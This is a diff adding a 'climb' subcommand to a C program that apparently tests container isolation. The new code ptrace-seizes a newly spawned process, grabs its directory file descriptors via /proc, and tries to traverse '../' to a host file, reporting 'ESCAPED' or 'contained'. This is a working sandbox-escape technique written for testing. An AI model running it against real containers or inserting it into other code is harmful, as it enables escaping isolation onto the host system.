@@ -28,9 +28,11 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #ifndef SYS_pidfd_open
@@ -218,8 +220,63 @@ static int steal(int stop, int inject) {
 	return 0;
 }
 
+/*
+ * climb REL: seize the next process of this pid namespace (machine root keeps CAP_SYS_PTRACE in the
+ * initial user namespace), stop it at once, take every fd it holds through /proc/P/fd, and from each
+ * directory among them try ".." up to the host's "/" and REL (a host file the test made) below it.
+ * Prints "seized PID COMM" and then "ESCAPED fd N" or "contained".
+ */
+static int read_int(const char *p) {
+	char b[32] = {0};
+	int fd = open(p, O_RDONLY);
+	if (fd < 0 || read(fd, b, sizeof b - 1) < 0) return -1;
+	close(fd);
+	return atoi(b);
+}
+
+static int climb(const char *rel) {
+	int last = read_int("/proc/sys/kernel/ns_last_pid"), pid = -1;
+	while (pid < 0) {
+		for (int p = last + 1; p <= last + 3 && pid < 0; p++)
+			if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) pid = p;
+	}
+	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+	int st;
+	waitpid(pid, &st, __WALL);
+	char path[64], comm[32] = {0};
+	snprintf(path, sizeof path, "/proc/%d/comm", pid);
+	int cf = open(path, O_RDONLY);
+	if (cf >= 0 && read(cf, comm, sizeof comm - 1) < 0) comm[0] = 0;
+	if (cf >= 0) close(cf);
+	comm[strcspn(comm, "\n")] = 0;
+	printf("seized %d %s\n", pid, comm);
+	int got[256], n = 0;
+	for (int fd = 0; fd < 256 && n < 256; fd++) {
+		char lp[64];
+		snprintf(lp, sizeof lp, "/proc/%d/fd/%d", pid, fd);
+		int g = open(lp, O_PATH | O_CLOEXEC);
+		if (g >= 0) got[n++] = g;
+	}
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+	char up[4096] = "";
+	for (int i = 0; i < 32; i++) strcat(up, "../");
+	strncat(up, rel, sizeof up - strlen(up) - 1);
+	for (int i = 0; i < n; i++) {
+		struct stat s;
+		if (fstat(got[i], &s) || !S_ISDIR(s.st_mode)) continue;
+		int f = openat(got[i], up, O_RDONLY | O_CLOEXEC);
+		if (f >= 0) {
+			printf("ESCAPED fd %d\n", i);
+			return 0;
+		}
+	}
+	printf("contained\n");
+	return 0;
+}
+
 int main(int argc, char **argv) {
 	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc == 3 && !strcmp(argv[1], "climb")) return climb(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "lease")) return lease(argv[2]);
 	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "forge")) return forge(argv[2], atoi(argv[3]), argc == 5 && !strcmp(argv[4], "any"));
 	if (argc >= 2 && !strcmp(argv[1], "steal")) return steal(argc > 2 && !strcmp(argv[2], "stop"), 0);
